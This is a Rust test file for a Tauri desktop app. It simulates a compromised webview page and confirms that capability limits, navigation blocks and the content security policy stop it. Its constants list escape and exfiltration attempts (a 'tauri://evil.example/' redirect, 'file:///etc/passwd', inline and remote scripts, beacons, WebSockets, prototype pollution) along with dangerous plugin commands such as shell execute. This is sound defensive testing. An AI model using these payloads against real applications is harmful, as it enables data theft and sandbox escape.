//! What stands around the pages of the real window, tried from within by somebody who took a page over.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::{Result, ensure};
use fediaccounts_practice::{ANA, BEN, Software};
use fediaccounts_stage::{Window, until};
use serde_json::json;
use tokio::net::TcpListener;

use crate::cast::add;
use crate::consent::{App, socket};
use crate::kinds::place::Place;

/// Every command of ours, as the build lists them.
const BUILD: &str = include_str!("../../src-tauri/build.rs");
const CAPABILITIES: [(&str, &str); 3] = [
    ("main", include_str!("../../src-tauri/capabilities/main.json")),
    ("secret", include_str!("../../src-tauri/capabilities/secret.json")),
    ("consent", include_str!("../../src-tauri/capabilities/consent.json")),
];
/// What Tauri and its plugins bring along, or might.
const OF_OTHERS: [&str; 26] = [
    "plugin:__TAURI_CHANNEL__|fetch",
    "plugin:app|name",
    "plugin:app|version",
    "plugin:clipboard-manager|read_text",
    "plugin:deep-link|get_current",
    "plugin:deep-link|register",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:event|listen",
    "plugin:fs|read_text_file",
    "plugin:http|fetch",
    "plugin:image|from_path",
    "plugin:menu|new",
    "plugin:opener|open_path",
    "plugin:opener|open_url",
    "plugin:path|resolve_directory",
    "plugin:process|exit",
    "plugin:resources|close",
    "plugin:shell|execute",
    "plugin:tray|new",
    "plugin:webview|create_webview",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:window|close",
    "plugin:window|set_title",
    "no_such_command",
];

/// Tries to get out of the page, each in its own way; `AT` is a server that counts.
const WAYS_OUT: [(&str, &str); 19] = [
    ("another origin", "location.href = 'http://AT/go'"),
    ("another origin of ours", "location.href = 'tauri://evil.example/'"),
    ("another page of ours", "location.href = '/secret.html?x'"),
    ("a script as a link", "location.href = 'javascript:window.pwned=1'"),
    ("data", "location.href = 'data:text/html,<script>1</script>'"),
    ("a file", "location.href = 'file:///etc/passwd'"),
    ("a window", "window.open('http://AT/window')"),
    ("a blank window", "window.open('about:blank')"),
    (
        "a link",
        "const a = document.createElement('a'); a.href = 'http://AT/a'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a link to a new window",
        "const a = document.createElement('a'); a.href = 'http://AT/b'; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a download",
        "const a = document.createElement('a'); a.href = 'data:text/plain,canary-download'; a.download = 'canary.txt'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a download of what it made",
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['canary-download'])); a.download = 'canary.txt'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a form",
        "const f = document.createElement('form'); f.method = 'post'; f.action = 'http://AT/form'; document.body.append(f); f.submit(); f.remove()",
    ),
    ("a picture", "new Image().src = 'http://AT/image.png'"),
    (
        "a frame",
        "const f = document.createElement('iframe'); f.src = 'http://AT/frame'; document.body.append(f)",
    ),
    (
        "a refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://AT/meta'; document.head.append(m)",
    ),
    (
        "a style sheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://AT/x.css'; document.head.append(l)",
    ),
    (
        "a prefetch",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://AT/x'; document.head.append(l)",
    ),
    ("a beacon", "navigator.sendBeacon('http://AT/beacon', 'x')"),
];

/// Tries what the policy forbids; each says `true` where it was done.
const FORBIDDEN: &str = r"
const done = arguments[arguments.length - 1], at = arguments[0];
const add = (name, also) => { const one = document.createElement(name); also(one); document.body.append(one); return one; };
const ways = {
  'inline script': async () => { add('script', (s) => (s.textContent = 'window.pwned = 1')); return window.pwned === 1; },
  'inline handler': async () => { const b = add('button', (b) => b.setAttribute('onclick', 'window.pwned = 1')); b.click(); b.remove(); return window.pwned === 1; },
  'remote script': () => new Promise((r) => add('script', (s) => { s.onload = () => r(true); s.onerror = () => r(false); s.src = `http://${at}/x.js`; })),
  'data script': () => new Promise((r) => add('script', (s) => { s.onload = () => r(true); s.onerror = () => r(false); s.src = 'data:text/javascript,window.pwned=1'; })),
  'inline style': async () => { const p = add('p', (p) => p.setAttribute('style', 'opacity: 0.5')); const seen = getComputedStyle(p).opacity; p.remove(); return seen === '0.5'; },
  'style element': async () => { const s = add('style', (s) => (s.textContent = 'body { opacity: 0.5 }')); const seen = getComputedStyle(document.body).opacity; s.remove(); return seen === '0.5'; },
  eval: async () => (0, eval)('1') === 1,
  'new Function': async () => new Function('return 1')() === 1,
  'timer with text': async () => { setTimeout('window.pwned = 1', 0); await new Promise((r) => setTimeout(r, 50)); return window.pwned === 1; },
  fetch: async () => (await fetch(`http://${at}/fetch`, { mode: 'no-cors' }), true),
  request: () => new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r(true); x.onerror = () => r(false); x.open('GET', `http://${at}/xhr`); x.send(); }),
  WebSocket: () => new Promise((r) => { const s = new WebSocket(`ws://${at}/`); s.onopen = () => r(true); s.onerror = () => r(false); s.onclose = () => r(false); }),
  EventSource: () => new Promise((r) => { const s = new EventSource(`http://${at}/events`); s.onopen = () => r(true); s.onerror = () => { s.close(); r(false); }; }),
  picture: () => new Promise((r) => { const i = new Image(); i.onload = () => r(true); i.onerror = () => r(false); i.src = `http://${at}/i.png`; }),
  worker: () => new Promise((r) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => r(true); w.onerror = () => r(false); }),
  frame: () => new Promise((r) => { const f = add('iframe', (f) => (f.srcdoc = '<p>x</p>')); setTimeout(() => { const there = f.contentDocument?.body?.textContent === 'x'; f.remove(); r(there); }, 200); }),
  font: () => new FontFace('x', `url(http://${at}/x.woff)`).load().then(() => true),
  base: async () => { const b = document.createElement('base'); b.href = `http://${at}/`; document.head.append(b); const moved = document.baseURI.includes(at); b.remove(); return moved; },
  'prototype': async () => { Object.prototype.pwned = 1; return {}.pwned === 1; },
};
(async () => {
  const did = [];
  for (const [name, way] of Object.entries(ways)) {
    const limit = new Promise((r) => setTimeout(() => r(false), 3000));
    if (await Promise.race([way().catch(() => false), limit])) did.push(name);
  }
  done(did);
})();
";

#[tokio::test]
async fn no_window_has_a_command_that_is_not_its_own() -> Result<()> {
    let Some(place) = Place::at(Software::PeerTube, BEN).await? else { return Ok(()) };
    let window = place.window().await?;
    place.begin(&window, "add-browser").await?;
    window.to_secret().await?;
    has_only_its_own(&window, "secret").await?;
    window.to_main().await?;
    has_only_its_own(&window, "main").await?;
    window.close().await
}

#[tokio::test]
async fn the_page_of_a_question_has_only_its_own_commands_and_no_way_out() -> Result<()> {
    let Some(place) = Place::at(Software::Mastodon, ANA).await? else { return Ok(()) };
    ensure!(add(&place.programs, &place.stage, &place.server.host(), ANA).await?.code == 0);
    let window = place.window().await?;
    window.shows(&place.handle()).await?;
    let mut app = App::connect(socket(&place)?).await?;
    let wish = json!({ "scopes": ["read"], "reason": "To try it" });
    let asked = tokio::spawn(async move { app.call("accounts.request", wish).await });
    window.to_consent().await?;
    window.shows("asks to use an account").await?;
    has_only_its_own(&window, "consent").await?;
    has_no_way_out(&place, &window, 2).await?;
    keeps_its_policy(&window).await?;
    ensure!(!asked.is_finished(), "nothing of this was an answer");
    asked.abort();
    window.close().await
}

#[tokio::test]
async fn the_main_page_has_no_way_out_and_keeps_its_policy() -> Result<()> {
    let Some(place) = Place::at(Software::Mastodon, ANA).await? else { return Ok(()) };
    let window = place.window().await?;
    window.find("add-account").await?;
    has_no_way_out(&place, &window, 1).await?;
    keeps_its_policy(&window).await?;
    window.find("add-account").await?;
    window.close().await
}

/// Everything that is another window's, and everything that is nobody's, is refused.
async fn has_only_its_own(window: &Window, label: &str) -> Result<()> {
    let own = CAPABILITIES.iter().find(|(of, _)| *of == label).map_or("", |(_, own)| own);
    let (_, list) = BUILD.split_once("COMMANDS: &[&str] = &[").unwrap_or_default();
    let list = list.split_once("];").unwrap_or_default().0;
    let all: Vec<_> = list.split('"').skip(1).step_by(2).collect();
    ensure!(all.len() > 30, "the commands should be found");
    let not_its_own = |command: &&str| !own.contains(&format!("\"allow-{}\"", command.replace('_', "-")));
    for command in all.into_iter().filter(not_its_own).chain(OF_OTHERS) {
        let refused = window.call(command, json!({})).await?;
        let words = refused.unwrap_or_else(|| "it was done".to_owned());
        let is_refused = ["not allowed", "not found", "missing"].iter().any(|word| words.contains(word));
        ensure!(is_refused, "T175-UI, T180-UI, T191-UI: {command} from {label}: {words}");
    }
    for id in [0, 1, 7, 100] {
        let theirs = window.call("plugin:__TAURI_CHANNEL__|fetch", json!({ "id": id })).await?;
        ensure!(theirs.is_some(), "T176-UI: it got what another page was told");
    }
    Ok(())
}

/// Whatever the page tries, it stays, alone, and nobody hears of it.
async fn has_no_way_out(place: &Place, window: &Window, windows: usize) -> Result<()> {
    let (at, visits) = counting().await?;
    let before = window.run("return location.href.split('#')[0]", vec![]).await?;
    for (name, way) in WAYS_OUT {
        // What is refused may well be an error.
        let _ = window.run(&way.replace("AT", &at), vec![]).await;
        window.run_async("setTimeout(arguments[arguments.length - 1], 150)", vec![]).await?;
        let now = window.run("return location.href.split('#')[0]", vec![]).await?;
        ensure!(now == before, "T177-UI, T179-UI: {name} led to {now}");
        ensure!(window.count().await? == windows, "T179-UI: {name} opened a window");
        ensure!(visits.load(Ordering::SeqCst) == 0, "T174-UI, T179-UI: {name} reached a server");
    }
    let frames = window.run("return document.querySelectorAll('iframe').length && [...document.querySelectorAll('iframe')].some((f) => { try { return f.contentWindow.__TAURI_INTERNALS__ !== undefined } catch { return false } })", vec![]).await?;
    ensure!(frames == false || frames == 0, "T178-UI: a frame reaches our process");
    ensure!(!crate::canary::holds(place.stage.folder(), "canary-download")?, "T179-UI: it was saved");
    Ok(())
}

/// What the policy forbids is not done.
async fn keeps_its_policy(window: &Window) -> Result<()> {
    let (at, visits) = counting().await?;
    let done = window.run_async(FORBIDDEN, vec![at.into()]).await?;
    ensure!(done == json!([]), "T174-UI, T181-UI: it did {done}");
    ensure!(visits.load(Ordering::SeqCst) == 0, "T174-UI: it reached a server");
    let globals = window.run("return typeof window.__TAURI__", vec![]).await?;
    ensure!(globals == "undefined", "T181-UI: nothing of Tauri is global");
    until("the page to live on", async || {
        window.run("return document.title", vec![]).await.ok()?.as_str().map(|_| ())
    })
    .await
}

/// A server that counts who comes.
async fn counting() -> Result<(String, Arc<AtomicUsize>)> {
    let listener = TcpListener::bind(("127.0.0.1", 0)).await?;
    let (at, visits) = (listener.local_addr()?.to_string(), Arc::new(AtomicUsize::new(0)));
    let counted = Arc::clone(&visits);
    tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    Ok((at, visits))
}
